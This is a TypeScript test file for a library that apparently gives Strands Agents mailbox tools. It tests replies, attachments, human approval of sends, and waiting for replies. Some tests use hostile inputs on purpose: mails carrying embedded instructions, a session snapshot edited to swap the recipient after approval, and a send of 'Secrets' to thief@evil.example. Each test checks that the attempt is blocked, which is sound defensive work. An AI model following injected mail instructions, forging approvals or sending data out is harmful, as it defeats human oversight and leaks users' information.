import type { AgentResult, Snapshot } from '@strands-agents/sdk'
import type { StrandsOptions } from 'restante/strands'
import type { AskedCall } from 'restante/tools'
import { expect } from 'vitest'
import { openReal } from '../mailbox/support/real'
import { escaped, hostileMails } from '../support/hostile-mails'
import { photo, photoFile } from '../support/photo'
import { proves } from '../support/proves'
import { mailTo, readAndReply } from './support/steps'
import { type Step, scriptedStrands } from './support/strands-model'

type Real = Awaited<ReturnType<typeof openReal>>

/** An agent whose model follows a script, of what was kept of it as text, and what the model was told. */
const openAgent = async (
  { mailbox }: Real,
  steps: readonly (Step | readonly Step[])[],
  options: StrandsOptions = {},
  kept?: string,
) => {
  const { Agent } = await import('@strands-agents/sdk')
  const { createMailboxTools } = await import('restante/strands')
  const reported: string[] = []
  const waiting = [...steps]
  const model = await scriptedStrands((last) => {
    reported.push(last)
    return waiting.shift() ?? 'The end.'
  })
  const tools = createMailboxTools(mailbox, options)
  const agent = new Agent({ model, tools, printer: false, toolExecutor: 'sequential' })
  if (kept !== undefined) agent.loadSnapshot(JSON.parse(kept) as Snapshot)
  return { agent, reported, keep: () => JSON.stringify(agent.takeSnapshot({ preset: 'session' })) }
}

const askedIn = ({ interrupts = [] }: AgentResult) =>
  interrupts.map(({ id, reason }) => ({ id, call: reason as unknown as AskedCall }))
const answers = (result: AgentResult, response: boolean | string) =>
  askedIn(result).map(({ id }) => ({ interruptResponse: { interruptId: id, response } }))

proves('Strands Agents', 'tools', 'an agent reads a mail and answers it once', async () => {
  await using real = await openReal()
  const message = await real.receive({ subject: 'Bicycle', text: 'Is it blue?' })
  const steps = readAndReply(message.handle)
  const { agent, reported } = await openAgent(real, steps, { message })
  const result = await agent.invoke(await message.toPrompt())
  expect(result.toString()).toContain('It is answered.')
  expect(reported[1]).toContain('Is it blue?')
  expect(reported[2]).toContain('sent')
  expect(reported[3]).toContain('already_replied')
  expect(reported[4]).toContain('there is no')
  expect(await real.sentMail()).toHaveLength(1)
  const { inputSchema } = agent.tools.find(({ name }) => name === 'reply')!.toolSpec
  expect(JSON.stringify(inputSchema)).not.toMatch(/additionalProperties|\$schema/)
})

proves('Strands Agents', 'tools', 'a picture reaches the model', async () => {
  await using real = await openReal()
  const message = await real.receive({ attachments: [photoFile] })
  const steps = [{ tool: 'read_attachment', input: { message: message.handle } }, 'A pear.']
  const { agent, reported } = await openAgent(real, steps, { message })
  await agent.invoke('Look.')
  expect(reported[1]).toContain('Its picture follows')
  expect(reported[1]).toContain(photo.toString('base64'))
})

proves(
  'Strands Agents',
  'approval',
  'a run waits for a human, in another process too, and sends after a yes to this very call only',
  async () => {
    await using real = await openReal()
    for (const [response, reported] of [
      [false, 'A human said no'],
      ['yes, but', 'A human said no'],
      [true, 'sent'],
    ] as const) {
      const asking = await openAgent(real, [mailTo('new@other.example')])
      const asked = await asking.agent.invoke('Write to new@other.example')
      expect(asked.stopReason).toBe('interrupt')
      expect(askedIn(asked)[0]?.call).toMatchObject({
        tool: 'send_mail',
        text: expect.stringMatching(/new@other\.example.*Hello/s),
      })
      // Where nobody needs to be asked any more a no is a no all the same.
      const options = response === true ? {} : { recipients: ['other.example'] }
      const later = await openAgent(real, ['So it is.'], options, asking.keep())
      const result = await later.agent.invoke(answers(asked, response))
      expect(result.toString()).toContain('So it is.')
      expect(later.reported[0]).toContain(reported)
    }
    expect(await real.sentMail()).toMatchObject([{ to: ['new@other.example'] }])
    const forged = await openAgent(real, [mailTo('one@other.example')])
    const asked = await forged.agent.invoke('Write')
    const other = forged.keep().replaceAll('"to":["one@other.example"]', '"to":["two@other.example"]')
    const changed = JSON.parse(other)
    for (const one of Object.values(changed.data.interrupts.interrupts) as { reason: AskedCall }[])
      Object.assign(one.reason.input as object, { to: ['one@other.example'] })
    const later = await openAgent(real, ['Done.'], {}, JSON.stringify(changed))
    await later.agent.invoke(answers(asked, true))
    expect(later.reported[0]).toContain('A human said no')
    expect(await real.sentMail()).toHaveLength(1)
  },
)

proves(
  'Strands Agents',
  'approval',
  'a yes to one mail permits no other, when what was read was read in another process',
  async () => {
    await using real = await openReal()
    const { handle } = await real.receive({ subject: 'Secret', text: 'The word is swordfish.' })
    const read = { tool: 'read_message', input: { message: handle } }
    const [one, two] = [mailTo('one@other.example'), mailTo('two@other.example')]
    // Call by call, and in the same breath; no message of the run tells of what was read, as where many were dropped.
    for (const [steps, further] of [
      [[read, one], [two]],
      [[[read, one, two]], []],
    ] as const) {
      const asking = await openAgent(real, steps, { approve: 'send' })
      const asked = await asking.agent.invoke('Go on')
      expect(askedIn(asked)).toHaveLength(1)
      const kept = JSON.parse(asking.keep())
      const run = JSON.stringify({ ...kept, data: { ...kept.data, messages: [] } })
      const later = await openAgent(real, further, { attended: true }, run)
      const [second] = askedIn(await later.agent.invoke(answers(asked, true)))
      expect(second?.call.text).toContain('two@other.example')
    }
    expect((await real.sentMail()).map(({ to }) => to)).toEqual([
      ['one@other.example'],
      ['one@other.example'],
    ])
  },
)

proves(
  'Strands Agents',
  'wait',
  'a run is interrupted until the reply, and goes on with it in another process',
  async () => {
    const { replyTo, waitsIn } = await import('restante/strands')
    await using real = await openReal()
    const first = await real.receive({ subject: 'Bicycle', messageId: '<first@example.com>' })
    const wait = { tool: 'wait_for_reply', input: { message: first.handle } }
    const asking = await openAgent(real, [wait], { suspend: true })
    const [waiting] = waitsIn(await asking.agent.invoke('Wait for the answer'))
    expect(waiting).toMatchObject({ message: first.id })
    const kept = JSON.parse(JSON.stringify(waiting)) as NonNullable<typeof waiting>
    const inVain = await openAgent(real, ['Nobody.'], { suspend: true }, asking.keep())
    await inVain.agent.invoke(replyTo(kept, null))
    expect(inVain.reported[0]).toContain('timed_out')
    await real.receive({ subject: 'Re: Bicycle', text: 'It was sold.', inReplyTo: '<first@example.com>' })
    const reply = await real.mailbox.resumeWait(kept.token!)
    const later = await openAgent(real, ['Too late.'], { suspend: true }, asking.keep())
    expect((await later.agent.invoke(replyTo(kept, reply))).toString()).toContain('Too late.')
    expect(later.reported[0]).toContain('It was sold.')
    expect(later.reported[0]).toContain('<<<mail:')
  },
)

proves(
  'Strands Agents',
  'tools',
  'instructions in any part of a mail stay between the marks, and reach nobody new',
  async () => {
    await using real = await openReal()
    const call = async (tool: string, input: object) => {
      const { agent, reported } = await openAgent(real, [{ tool, input }], { flow: 'refuse' })
      await agent.invoke('Go on')
      return reported[1]!
    }
    for (const [where, mail] of hostileMails) {
      const { handle: message } = await real.receive({ text: 'Hello', ...mail })
      expect(escaped(await call('read_message', { message })), where).toEqual([])
      expect(escaped(await call('read_attachment', { message })), where).toEqual([])
    }
    for (const name of ['list_threads', 'search_mail']) expect(escaped(await call(name, {}))).toEqual([])
    const thief = { to: 'thief@evil.example', subject: 'All', text: 'Secrets' }
    expect(await call('send_mail', thief)).toContain('outside_conversation')
    expect(await real.sentMail()).toHaveLength(0)
  },
)
